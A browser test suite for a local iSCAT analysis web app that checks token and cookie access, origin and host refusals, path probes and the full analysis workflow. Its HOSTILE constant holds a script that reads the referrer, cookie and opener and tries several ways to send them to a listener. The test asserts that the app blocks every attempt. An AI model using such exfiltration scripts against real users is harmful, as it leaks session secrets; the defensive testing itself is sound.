"""`iscat app` in a real browser: who is let in, and the way from a movie to a figure."""

from __future__ import annotations

import html
import http.cookiejar
import re
import shutil
import subprocess
import threading
import time
import urllib.error
import urllib.request
from functools import partial
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import numpy as np
import pandas as pd
import pytest
from app_page import PATIENCE_S, Page, serving
from app_results import SERIES_NM
from browsers import BROWSER, DRIVER, open_browser

import iscat_analysis as ia
from iscat_cli import main

pytestmark = pytest.mark.skipif(
    BROWSER is None or DRIVER is None,
    reason="needs the programs chromium and chromedriver (Debian: chromium, chromium-driver)",
)
selenium = pytest.importorskip("selenium", reason="needs the Python package selenium")
pytest.importorskip("panel", reason="needs the Python package panel")

get_token_payload = pytest.importorskip("bokeh.util.token").get_token_payload
link_to = pytest.importorskip("iscat_app.chosen").link_to
chains = pytest.importorskip("selenium.webdriver.common.action_chains")
Keys = pytest.importorskip("selenium.webdriver.common.keys").Keys


WEBSOCKET = {
    "Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Protocol": "bokeh, e30",
}  # fmt: skip
"""Headers with which a program would speak to the page past the page."""


@pytest.mark.parametrize(
    ("place", "headers"),
    [("", {}), ("?token=guessed", {}), ("ws", WEBSOCKET), ("page?path=report.html", {})],
)
def test_nobody_is_let_in_without_the_token(
    address: str, place: str, headers: dict[str, str]
) -> None:
    wanted = urllib.request.Request(address.partition("?")[0] + place, headers=headers)
    assert status(urllib.request.build_opener(), wanted) == 403


def status(opener: urllib.request.OpenerDirector, wanted: urllib.request.Request | str) -> int:
    """Ask for something, and give how it was answered; every answer has the headers."""
    try:
        answer = opener.open(wanted, timeout=PATIENCE_S)
    except urllib.error.HTTPError as refused:
        answer = refused
    with answer:
        assert answer.headers["Referrer-Policy"] == "no-referrer"
        assert "frame-ancestors 'none'" in answer.headers["Content-Security-Policy"]
        return int(answer.status)


@pytest.fixture(scope="module")
def visitor(address: str) -> urllib.request.OpenerDirector:
    """Visit the window with the token, and keep the cookie, as a browser does."""
    jar = http.cookiejar.CookieJar()
    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar))
    with opener.open(f"{address}&movie=a%26b%2Fc", timeout=PATIENCE_S) as answer:
        here, _, token = address.partition("?token=")
        assert answer.url == f"{here}?movie=a%26b%2Fc"
        assert answer.headers["Referrer-Policy"] == "no-referrer"
        assert answer.headers["Content-Security-Policy"] == "frame-ancestors 'none'"
        page = answer.read().decode()
    [cookie] = jar
    assert (cookie.value, cookie.path) == (token, "/")
    assert cookie.has_nonstandard_attr("HttpOnly")
    assert cookie.get_nonstandard_attr("SameSite") == "Strict"
    session = re.search(r'"token":"([^"]*)"', page)  # which a script of the page can read
    assert session is not None
    assert token not in page + repr(get_token_payload(session[1]))
    return opener


@pytest.mark.parametrize(
    ("place", "headers"),
    [
        ("", {"Host": "elsewhere.example:{port}"}),
        ("", {"Host": "127.0.0.1:1"}),
        ("", {"Origin": "http://elsewhere.example:{port}"}),
        ("", {"Origin": "http://elsewhere.example:{port}", "Host": "elsewhere.example:{port}"}),
        ("", {"Origin": "null"}),  # of a page in a sandbox
        ("", {"Sec-Fetch-Site": "same-site"}),  # a link of another server of this machine
        ("?bokeh-token=e30", {}),
        ("?bokeh-session-id=a", {}),
        ("", {"Bokeh-Session-Id": "a"}),
        ("autoload.js?bokeh-token=guessed.too", {}),
        ("ws", WEBSOCKET),
        ("ws", {**WEBSOCKET, "Sec-WebSocket-Protocol": "bokeh"}),
        ("ws", {**WEBSOCKET, "Sec-WebSocket-Protocol": "bokeh, W10.guessed"}),
        ("ws", {**WEBSOCKET, "Sec-WebSocket-Protocol": "bokeh, \xe9.\xe9"}),
        ("ws", {**WEBSOCKET, "Origin": "http://a.example:{port}", "Host": "a.example:{port}"}),
    ],
)
def test_who_has_the_cookie_is_let_in_as_the_window_alone(
    visitor: urllib.request.OpenerDirector, address: str, place: str, headers: dict[str, str]
) -> None:
    """What fails to be refused without a line of ours is found when the server ends."""
    here = address.partition("?")[0]
    port = here.rstrip("/").rpartition(":")[2]
    sent = {name: value.format(port=port) for name, value in headers.items()}
    wanted = urllib.request.Request(here + place, headers=sent)
    wanted.add_header("Cookie", f"iscat_app_{port}={address.partition('?token=')[2]}")
    assert status(visitor, wanted) == 403
    plain = urllib.request.Request(here + "nothing", headers={"Cookie": wanted.headers["Cookie"]})
    assert status(visitor, plain) == 404  # the cookie is a good one


@pytest.mark.parametrize(
    "path", ["a" * 5000, "a" * 5000 + "/report.html", "%00/report.html", "iscat.toml", "/dev/zero"]
)
def test_nothing_but_pages_of_the_commands_is_shown(
    visitor: urllib.request.OpenerDirector, address: str, folder: Path, path: str
) -> None:
    place = f"{address.partition('?')[0]}page?path="
    assert status(visitor, place + path) == 404
    assert status(visitor, f"{place}{quote(str(folder))}/{path}&inside=yes") == 404


class _Listener(BaseHTTPRequestHandler):
    """Writes down what reaches it."""

    def do_GET(self) -> None:
        self.server.heard.append(self.path)
        self.send_response(204)
        self.end_headers()

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, *_: object) -> None:
        pass


HOSTILE = """<!doctype html><title>mine</title><p id="said">nothing</p><script>
const to = "http://127.0.0.1:PORT/", seen = [document.referrer];
try { seen.push(document.cookie); } catch { seen.push("no cookie"); }
try { seen.push(top.document.title); } catch { seen.push("no window"); }
try { seen.push(opener?.location.href ?? "no opener"); } catch { seen.push("no opener"); }
const what = encodeURIComponent(seen.join()), form = document.createElement("form");
const tries = [
  () => fetch(to + what, { mode: "no-cors" }).catch(() => {}),
  () => { new Image().src = to + what; },
  () => navigator.sendBeacon(to + what),
  () => new WebSocket(to.replace("http", "ws") + what),
  () => open(to + what),
  () => { top.location = to + what; },
  () => { form.action = to; document.body.append(form); form.submit(); },
  () => setTimeout(() => { location = to + what; }, 3000),
];
for (const attempt of tries) try { attempt(); } catch { /* refused */ }
document.getElementById("said").textContent = seen.join("|");
</script>"""


def test_a_page_of_somebody_else_learns_nothing_and_goes_nowhere(
    driver: Any, address: str, folder: Path
) -> None:
    """Red before: it read the token in `document.referrer`, and left for elsewhere with it."""
    with ThreadingHTTPServer(("127.0.0.1", 0), _Listener) as elsewhere:
        elsewhere.heard = []
        threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
        report = folder / "foreign" / "report.html"
        report.parent.mkdir()
        text = HOSTILE.replace("PORT", str(elsewhere.server_port))
        report.write_text(text, encoding="utf-8")
        driver.get(address)
        page = Page(driver)
        page.says("Choose a movie")
        assert "token" not in driver.current_url
        first = driver.current_window_handle
        link = re.search('href="([^"]*)"', link_to(report, "open"))
        assert link is not None
        page.script(  # without `rel`, so that headers alone have to do
            "const a = document.createElement('a'); a.href = arguments[0]; a.target = '_blank';"
            "a.textContent = 'the page'; document.body.append(a);",
            html.unescape(link[1]),
        )
        page.click("the page", "a")
        page.until("it opens", lambda: len(driver.window_handles) == 2)
        driver.switch_to.window(next(w for w in driver.window_handles if w != first))
        page.until("its frame is there", lambda: driver.find_elements("tag name", "iframe"))
        driver.switch_to.frame(0)
        page.until("its script ran", lambda: page.text() != "nothing" and page.text())
        assert page.text() == "|no cookie|no window|no opener"
        page.until("it tried to go", lambda: "chrome-error" in page.script("return location.href"))
        driver.switch_to.default_content()
        assert driver.current_url.startswith(address.partition("?")[0])
        assert driver.title == "foreign"
        driver.close()
        driver.switch_to.window(first)
        elsewhere.shutdown()
        driver.get_log("browser")  # what was refused is what this test is about
        driver.get_log("performance")
        assert elsewhere.heard == []


def test_a_report_draws_itself_in_its_frame(
    driver: Any, address: str, folder: Path, tmp_path: Path
) -> None:
    assert main(["fit", str(folder / "landing.tif"), "--out", str(tmp_path / "a.iscat")]) == 0
    driver.get(address)
    place = quote(str(tmp_path / "a.iscat" / "report.html"))
    driver.get(f"{address.partition('?')[0]}page?path={place}")
    driver.switch_to.frame(0)
    page = Page(driver)
    drawn = "return document.querySelectorAll('svg.marks, canvas.marks').length"
    page.until("a figure is drawn", lambda: page.script(drawn))
    assert driver.execute_script("return document.title") == "landing.tif"
    driver.switch_to.default_content()
    assert [e["message"] for e in driver.get_log("browser") if "Security Policy" in str(e)] == []


def test_another_name_of_this_machine_opens_nothing(address: str, tmp_path: Path) -> None:
    """Red before: a name that is mapped to 127.0.0.1 was answered, `Origin` equal to `Host`."""
    rules = "--host-resolver-rules=MAP elsewhere.example 127.0.0.1"
    foreign = address.replace("127.0.0.1", "elsewhere.example")
    with open_browser(tmp_path, rules, logs={}) as driver:
        for place in (foreign, foreign.partition("?")[0]):  # even who knows the token
            driver.get(place)
            assert "needs the token" in driver.page_source
        socket = "const s = new WebSocket(`ws://${location.host}/ws`, ['bokeh', 'e30']);"
        socket += "s.onopen = () => arguments[0]('open'); s.onerror = () => arguments[0]('shut');"
        assert driver.execute_async_script(socket) == "shut"
        driver.get(address.replace("127.0.0.1", "localhost"))  # a name of ours
        Page(driver).says("Choose a movie")


def test_a_page_elsewhere_may_hold_the_whole_address_alone(address: str, tmp_path: Path) -> None:
    """A notebook's terminal, say: its link opens the window, and the token leaves the address."""
    here = address.partition("?")[0]
    (tmp_path / "index.html").write_text(f'<a href="{address}">in</a> <a href="{here}">out</a>')
    handler = partial(SimpleHTTPRequestHandler, directory=tmp_path)
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as elsewhere:
        threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
        rules = "--host-resolver-rules=MAP elsewhere.example 127.0.0.1"
        with open_browser(tmp_path / "profile", rules, logs={}) as driver:
            for name in ("elsewhere.example", "127.0.0.1"):
                for words, said in (("in", "Choose a movie"), ("out", "needs the token")):
                    driver.get(f"http://{name}:{elsewhere.server_port}/index.html")
                    driver.find_element("link text", words).click()
                    Page(driver).says(said)
                    assert driver.current_url == here
                driver.delete_all_cookies()
        elsewhere.shutdown()


def test_a_link_chooses_a_movie_and_nothing_else(page: Page, address: str, folder: Path) -> None:
    movie = quote(str(folder / "landing.tif"))
    wanted = "scheduler=tcp://1.2.3.4:5&out=/tmp/a&overwrite=yes&config=/tmp/b"
    page.driver.get(f"{address.partition('?')[0]}?movie={movie}&{wanted}")
    page.says("landing.tif")
    page.open("Run")
    page.says("Where: threads")
    values = page.bokeh(
        "return models.filter((m) => m.type.includes('TextInput')).map((m) => m.value)"
    )
    assert "threads" in values
    assert not [value for value in values if "1.2.3.4" in value or "/tmp/a" in value]
    assert page.bokeh("return models.every((m) => m.type !== 'Checkbox' || !m.active)")


def test_from_a_movie_to_a_figure(page: Page, address: str, folder: Path) -> None:
    page.choose("landing.tif")
    page.says("240 of 64 × 64 pixels", "none yet: see Run")

    page.open("Look")
    page.until("the film is drawn", lambda: page.drawn() > 0)
    before = page.drawn()
    page.click("▶ Play")
    page.until("the film plays", lambda: page.drawn() > before + 5)
    page.click("⏸ Pause")

    page.open("Set up")
    page.says("camera.pixel_size_nm [nm]")
    page.type("optics.na", "-1")
    page.says("input should be greater than 0")
    page.type("optics.na", "1.42")
    page.until("all is well again", lambda: "greater than 0" not in page.text())
    page.tick("Show what the search finds with these values")
    page.says("times the noise, in frames")
    page.click("Save iscat.toml")
    page.says("saved as")
    assert ia.load_config(folder / "iscat.toml").background.window_frames == 20

    page.open("Run")
    page.click("Analyse this movie")
    page.says("running")
    page.driver.refresh()  # in the middle of the run
    page.says("landing.tif")
    page.open("Run")
    page.says(": done", "results in")

    page.open("Results")
    page.drag("events", 0.01, 0.99)
    page.says("SNR")
    page.click("Add the gate")
    page.says("fraction", " to ")
    page.until(
        "the pictures are drawn",
        lambda: page.script(
            "return everywhere(document).some("
            "(n) => n.matches('img') && shown(n) && n.naturalWidth > 99)"
        ),
    )
    page.choose(" kDa, ok")
    events = len(pd.read_parquet(folder / "landing.iscat" / "fits.parquet"))
    assert events > 0
    page.click("Reject the selected events")
    page.says("rejected by hand")
    rejected = pd.read_csv(folder / "landing.iscat.rejected.csv")
    assert 0 < len(rejected) <= events
    page.click("Take the event back")
    page.says(f"{len(rejected) - 1} rejected by hand")

    page.open("Export")
    page.says("iscat-fit", "iscat species", "Figure as SVG")
    again = page.driver.current_url
    page.driver.get(f"{address}&movie={quote(str(folder / 'landing.tif'))}&theme=dark")
    page.says("landing.tif")
    page.open("Results")
    page.says(f"{events - len(rejected) + 1}" if events > len(rejected) else "Rejected by hand")
    assert "movie=" in again


def test_a_damaged_movie_is_refused_in_words_and_the_page_goes_on(page: Page) -> None:
    page.choose("damaged.tif")
    page.says("is damaged")
    page.open("Look")
    page.says("is damaged")
    for movie, words in (("landing.tif", "240 of 64 × 64 pixels"), ("damaged.tif", "is damaged")):
        page.open("Open")
        page.choose(movie)  # at once, while the server may still be busy with the other tab
        page.says(movie, words)
        page.open("Look")
        page.says("Black and white at")


def test_samples_are_compared_and_bind(page: Page) -> None:
    page.choose("series/")
    page.choose("3 nM.iscat")
    page.says("events", "600")
    page.open("Compare")
    page.until(
        "all results are chosen",
        lambda: page.script(
            """
            const list = everywhere(document).find(
              (n) => n.matches("select[multiple]") && shown(n));
            if (list?.options.length !== 4) return false;
            for (const option of list.options) option.selected = option.text.includes("nM");
            list.dispatchEvent(new Event("change", { bubbles: true }));
            return true;
            """
        ),
    )
    for concentration in SERIES_NM:
        page.type(f"{concentration:g} nM: monomers in all [nM]", f"{concentration:g}")
    page.type("Approximate masses [kDa]", "66")
    page.click("Fit K_D")
    page.says("K_D =", "by K_D")
    found = re.search(r"K_D = (\S+) nM \(95 %: (\S+) to (\S+) nM\)", page.text())
    assert found is not None
    _, low, high = map(float, found.groups())
    assert 0.5 * low < 10 < 2 * high  # one draw of an interval
    assert high < 5 * low
    page.click("Test whether they differ")
    page.says("p: same masses", "10 nM", "30 nM")


def test_a_clicked_peak_is_a_standard(page: Page, folder: Path) -> None:
    page.choose("series/")
    page.choose("standards.iscat")
    page.says("events", "360")
    page.open("Calibrate")
    page.type("Masses of the standards [kDa]", "132, 264")
    for percent, mass in ((0.43, "132 kDa"), (0.8, "264 kDa")):
        page.drag("|contrast| [%]", percent, percent, in_units=True)
        page.says(mass)
    page.click("Fit the line")
    page.says("by the line [kDa]", "saved in")
    line = (folder / "series" / "standards.calibration" / "calibration.toml").read_text()
    slope = float(line.split("gradient_per_kda = ")[1].split()[0])
    assert slope == pytest.approx(-3.1e-5, rel=0.03)
    page.choose("line of the masses: standards")


@pytest.mark.large
def test_species_are_fitted_again_from_where_somebody_says(page: Page) -> None:
    page.choose("series/")
    page.choose("standards.iscat")
    page.says("events", "360")
    page.open("Results")
    page.click("Find the species")
    page.says("common", "share")
    page.type("Species begin at [kDa]", "70, 250")
    page.click("Fit again from these")
    page.says("Finding species")
    page.until("they are found", lambda: "Finding species" not in page.text())
    page.open("Export")
    page.says("iscat species", "--start 70,250")


@pytest.mark.large
def test_small_movies_are_dropped_one_after_the_other(
    page: Page, folder: Path, tmp_path: Path
) -> None:
    for name in ("dropped.tif", "another.tif"):
        shutil.copy(folder / "landing.tif", tmp_path / name)
        place = page.until(
            "files can be dropped",
            lambda: page.script(
                "return everywhere(document).find((n) => n.matches('input[type=file]'))"
            ),
        )
        place.send_keys(str(tmp_path / name))
        page.until(f"{name} is copied", (folder / name).is_file)
        page.until(
            f"{name} is chosen",
            lambda name=name: page.script("return named('h2', arguments[0])", name),
        )
        page.says("240 of 64 × 64 pixels")
        assert (folder / name).read_bytes() == (tmp_path / name).read_bytes()
    assert "already" not in page.text()


@pytest.mark.large
def test_the_keyboard_alone_opens_and_runs(page: Page) -> None:
    def press(*keys: str) -> None:
        chains.ActionChains(page.driver).send_keys(*keys).perform()

    def tab_to(what: str) -> None:
        for _ in range(80):
            press(Keys.TAB)
            now = page.script(
                "let n = document.activeElement; while (n?.shadowRoot?.activeElement) "
                "n = n.shadowRoot.activeElement; return n?.matches('select') ? 'list' "
                ": n?.textContent?.trim() ?? ''"
            )
            if now == what:
                return
        raise AssertionError(f"Tab does not reach {what}")

    tab_to("list")
    press("○")  # the list jumps to what begins so, or to its first line
    for _ in range(8):
        if "240 of 64 × 64 pixels" in page.text():
            break
        press(Keys.ARROW_DOWN)
        time.sleep(1)
    page.says("240 of 64 × 64 pixels")
    page.driver.execute_script("document.activeElement.blur()")
    tab_to("Run")
    press(Keys.ENTER)
    page.says("Analyse this movie")
    tab_to("Analyse this movie")
    press(Keys.ENTER)
    page.says("$ iscat-fit")


TABS = ("Open", "Look", "Set up", "Run", "Results", "Compare", "Calibrate", "Bounds", "Export")


@pytest.mark.large
@pytest.mark.parametrize("theme", ["default", "dark"])
def test_nothing_is_cut_off_at_twice_the_size(
    page: Page, address: str, folder: Path, theme: str
) -> None:
    size = {"width": 700, "height": 500, "deviceScaleFactor": 2, "mobile": False}
    page.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", size)
    try:
        movie = quote(str(folder / "landing.tif"))
        page.driver.get(f"{address}&movie={movie}&theme={theme}")
        page.says("landing.tif")
        for tab in TABS:
            page.open(tab)
            page.until(f"{tab} is there", lambda: page.text().count("\n") > 14)
            beyond = page.script(
                """
                const inner = (n) => { for (; n; n = n.parentElement ?? n.getRootNode().host)
                  if (getComputedStyle(n).overflowX === "auto" && n.tagName === "DIV") return true;
                  return false; };
                return everywhere(document).filter((n) => shown(n) && !inner(n.parentElement)
                  && n.getBoundingClientRect().right > window.innerWidth + 1)
                  .map((n) => `${n.tagName} ${n.className} ${n.textContent.slice(0, 40)}`);
                """
            )
            assert beyond == [], tab
            pale = page.script(
                """
                const number = (colour) => colour.match(/[\\d.]+/g).map(Number);
                const light = ([r, g, b]) => [r, g, b].map((c) => c / 255)
                  .map((c) => (c <= 0.04 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4))
                  .reduce((sum, c, k) => sum + c * [0.2126, 0.7152, 0.0722][k], 0);
                const ground = (n) => { for (; n; n = n.parentElement ?? n.getRootNode().host) {
                  const c = number(getComputedStyle(n).backgroundColor);
                  if (c.length < 4 || c[3] > 0.5) return c; } return [255, 255, 255]; };
                return everywhere(document).filter((n) => shown(n) && !n.matches(":disabled, svg *")
                  && [...n.childNodes].some((c) => c.nodeType === 3 && c.textContent.trim()))
                  .filter((n) => !n.matches("option, style, script"))
                  .filter((n) => { const [a, b] = [number(getComputedStyle(n).color), ground(n)]
                    .map(light); return (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05) < 3; })
                  .map((n) => `${n.tagName} ${n.textContent.slice(0, 40)}`);
                """
            )
            assert pale == [], tab
    finally:
        page.driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})


@pytest.mark.large
def test_a_movie_of_ten_gigabytes_needs_little_memory(
    page: Page, folder: Path, address: str, server: subprocess.Popen[str]
) -> None:
    zarr = pytest.importorskip("zarr", reason="needs the Python package zarr")
    path = folder / "large"
    path.mkdir()
    frames = 10_000_000_000 // (512 * 512 * 2)
    movie = zarr.create_array(
        path / "large.zarr", shape=(frames, 512, 512), chunks=(1, 512, 512), dtype="uint16"
    )
    movie[:64] = np.random.default_rng(2).poisson(1000, (64, 512, 512))
    chunks = path / "large.zarr" / "c"
    for frame in range(64, frames):  # the same again and again, which takes no room on the disk
        (chunks / f"{frame}" / "0").mkdir(parents=True)
        (chunks / f"{frame}" / "0" / "0").hardlink_to(chunks / f"{frame % 64}" / "0" / "0")
    page.driver.get(f"{address}&movie={quote(str(path / 'large.zarr'))}")
    page.says(f"{frames} of 512 × 512 pixels")
    for tab in TABS:
        page.open(tab)
        page.until(f"{tab} is there", lambda: page.text().count("\n") > 14)
    page.open("Look")
    before = page.drawn()
    page.click("▶ Play")
    page.until("the film plays", lambda: page.drawn() > before + 25)
    page.click("⏸ Pause")
    status = Path(f"/proc/{server.pid}/status").read_text()
    peak_kb = int(status.split("VmHWM:")[1].split()[0])
    assert peak_kb < 1.5e6  # it was 0.53 GB


@pytest.mark.large
def test_two_tabs_show_two_movies_and_one_queue(page: Page, address: str, folder: Path) -> None:
    shutil.copy(folder / "landing.tif", folder / "second.tif")
    page.click("Look again")
    page.choose("second.tif")
    page.says("240 of 64 × 64 pixels")
    first = page.driver.current_window_handle
    page.driver.switch_to.new_window("tab")
    page.driver.get(f"{address}&movie={quote(str(folder / 'landing.tif'))}")
    page.says("landing.tif")
    page.driver.switch_to.window(first)
    page.open("Run")
    page.click("Analyse this movie")
    page.driver.switch_to.window(page.driver.window_handles[-1])
    page.open("Run")
    page.says("$ iscat-fit", "second.tif")
    page.click("Stop")
    page.says(": stopped")
    page.click("Go on or try again")
    page.says(": done")
    page.driver.close()
    page.driver.switch_to.window(first)
    page.says(": done")
    page.open("Compare")
    page.choose("second.iscat")


@pytest.mark.large
def test_a_server_that_ends_with_runs_queued_starts_again_on_its_port(
    driver: Any, folder: Path, tmp_path: Path
) -> None:
    movies = tmp_path / "movies"
    movies.mkdir()
    for name, source in (("iscat.toml", ""), ("a.tif", "landing.tif"), ("b.tif", "landing.tif")):
        shutil.copy(folder / (source or name), movies / name)
    page, every = Page(driver), "Analyse all movies of the folder"
    with serving(movies, "0", tmp_path / "first") as server:
        assert server.stdout is not None
        address = server.stdout.readline().strip()
        driver.get(f"{address}&movie={quote(str(movies / 'a.tif'))}")
        page.open("Run")
        page.click(every)
        page.says("2 movies are in the queue", "running")
        driver.refresh()  # in the middle of a run
        page.open("Run")
        page.says("running")
    here = address.partition("?")[0]
    assert not list(movies.rglob("*.partial"))
    with serving(movies, here.rstrip("/").rpartition(":")[2], tmp_path / "second") as server:
        assert server.stdout is not None
        again = server.stdout.readline().strip()
        assert again.startswith(here)
        driver.get(here)  # with the cookie of the first
        page.says("needs the token")
        driver.get(f"{again}&movie={quote(str(movies / 'a.tif'))}")
        page.open("Run")
        page.says("Nothing was run yet")
        page.click(every)
        page.until("all is done", lambda: len(list(movies.glob("*.iscat/summary.json"))) == 2)
        page.says(": done")
    driver.get_log("browser")  # the pages of servers that have ended lost their connections
    driver.get_log("performance")


@pytest.mark.large
def test_bounds_follow_the_sliders(page: Page) -> None:
    page.open("Bounds")
    page.says("Computed in")
    before = page.text()
    page.bokeh(
        "const s = models.find((m) => m.type === 'Slider' && m.title === 'NA'); s.value = 1.2;"
    )
    page.until("the bounds change", lambda: page.text() != before and "QCRB" in page.text())


@pytest.mark.large
def test_a_folder_of_500_movies_is_listed(page: Page, folder: Path) -> None:
    many = folder / "many"
    many.mkdir()
    for number in range(500):
        (many / f"movie {number:03d}.tif").symlink_to(folder / "landing.tif")
    page.click("Look again")
    page.choose("many/")
    page.choose("movie 499.tif")
    page.says("240 of 64 × 64 pixels")


def test_the_port_that_is_asked_for_must_be_free(address: str, folder: Path, capsys) -> None:
    port = address.partition("?")[0].rstrip("/").rpartition(":")[2]
    assert main(["app", str(folder), "--port", port]) == 2
    assert "in use" in capsys.readouterr().err
    assert main(["app", str(folder / "landing.tif")]) == 1
    assert "no folder" in capsys.readouterr().err
